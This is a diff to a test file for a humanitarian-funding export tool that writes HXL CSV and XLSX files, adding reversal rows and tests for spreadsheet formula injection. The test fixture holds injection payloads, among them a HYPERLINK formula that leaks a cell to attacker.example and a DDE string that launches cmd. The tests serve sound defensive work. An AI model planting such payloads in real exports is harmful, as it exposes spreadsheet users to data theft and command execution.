@@ -8,6 +8,7 @@ import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { readFts } from './fts-read.ts';
 import {
+  csvCell,
   FUNDING_HXL_COLUMNS,
   type FundingHxlRow,
   ftsFlowToHxlRow,
@@ -33,6 +34,7 @@ const rows: FundingHxlRow[] = [
     amount: '13000000',
     currency: 'NOK',
     description: 'Pipes, "fittings", and pumps;\nphase 1',
+    reverses: null,
   },
   {
     reference: 'CON-1-T2',
@@ -47,8 +49,24 @@ const rows: FundingHxlRow[] = [
     amount: null,
     currency: null,
     description: null,
+    reverses: null,
   },
 ];
+
+/** A reversal of the first row, and text a spreadsheet would run as a formula. */
+const hostile: FundingHxlRow = {
+  ...rows[0],
+  reference: 'CON-1-T3',
+  status: 'reversal',
+  donor: '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
+  recipient: "+1+cmd|' /C calc'!A0",
+  recipientCode: '@SUM(1+1)',
+  sector: '\t=1+1',
+  amountUsd: '-1250000.75',
+  amount: '-13000000',
+  description: '-5 tonnes of cement',
+  reverses: 'CON-1-T1',
+};
 
 let dir: string;
 beforeAll(async () => {
@@ -82,6 +100,7 @@ describe('HXL CSV', () => {
       '#value+funding+original',
       '#currency',
       '#description',
+      '#meta+reverses+id',
     ]);
     expect(table.length).toBe(4);
     expect(table[2][11]).toBe('Pipes, "fittings", and pumps;\nphase 1');
@@ -98,7 +117,31 @@ describe('HXL CSV', () => {
       '',
       '',
       '',
+      '',
     ]);
+  });
+
+  it('links a reversal to what it reverses, neutralises formulas in text, and keeps negative amounts numbers', async () => {
+    const table: string[][] = parse(await text(hxlCsv([rows[0], hostile], FUNDING_HXL_COLUMNS)));
+    const column = (tag: string) => table[1].indexOf(tag);
+    const reversal = table[3];
+    expect(reversal[column('#meta+reverses+id')]).toBe(table[2][column('#meta+id')]);
+    // Every text cell that a spreadsheet would take for a formula starts with a quote instead.
+    const texts = {
+      '#org+funder+name': hostile.donor,
+      '#org+impl+name': hostile.recipient,
+      '#org+impl+code': hostile.recipientCode,
+      '#sector+cluster+name': hostile.sector,
+      '#description': hostile.description,
+    };
+    for (const [tag, value] of Object.entries(texts)) expect(reversal[column(tag)], tag).toBe(`'${value}`);
+    // Amounts stay plain numbers, negative ones included, so a column can be summed.
+    expect(reversal[column('#value+funding+usd')]).toBe('-1250000.75');
+    expect(reversal[column('#value+funding+original')]).toBe('-13000000');
+    // An amount column holding text is text, and neutralised like any other.
+    expect(csvCell('-1+1', true)).toBe("'-1+1");
+    expect(csvCell('=1', false)).toBe("'=1");
+    expect(csvCell('Gaza = Rafah', false)).toBe('Gaza = Rafah');
   });
 
   it('streams rows from an async source into a file', async () => {
@@ -136,6 +179,30 @@ describe('HXL XLSX', () => {
     expect(sheet.getRow(4).getCell(9).value).toBe('12345678901234567.89');
     expect(sheet.getRow(4).getCell(4).value).toBe('صندوق قطر للتنمية');
     expect(sheet.rowCount).toBe(4);
+  });
+
+  it('writes a reversal with its link, numbers as numbers and formula-like text as text cells', async () => {
+    const chunks: Buffer[] = [];
+    const sink = new Writable({
+      write(chunk, _encoding, done) {
+        chunks.push(chunk);
+        done();
+      },
+    });
+    await writeHxlXlsx([rows[0], hostile], FUNDING_HXL_COLUMNS, sink);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(Buffer.concat(chunks) as unknown as Parameters<typeof workbook.xlsx.load>[0]);
+    const sheet = workbook.worksheets[0];
+    const cell = (row: number, tag: string) => sheet.getRow(row).getCell(FUNDING_HXL_COLUMNS.findIndex((c) => c.tag === tag) + 1);
+    expect(cell(4, '#meta+reverses+id').value).toBe('CON-1-T1');
+    expect(cell(4, '#value+funding+usd').value).toBe(-1250000.75);
+    expect(cell(4, '#value+funding+usd').type).toBe(ExcelJS.ValueType.Number);
+    expect(cell(4, '#value+funding+original').value).toBe(-13000000);
+    for (const tag of ['#org+funder+name', '#org+impl+name', '#org+impl+code', '#sector+cluster+name']) {
+      expect(cell(4, tag).type, tag).toBe(ExcelJS.ValueType.String);
+      expect(cell(4, tag).formula, tag).toBeUndefined();
+    }
+    expect(cell(4, '#org+funder+name').value).toBe(hostile.donor);
   });
 
   it('lays an Arabic sheet out right to left', async () => {
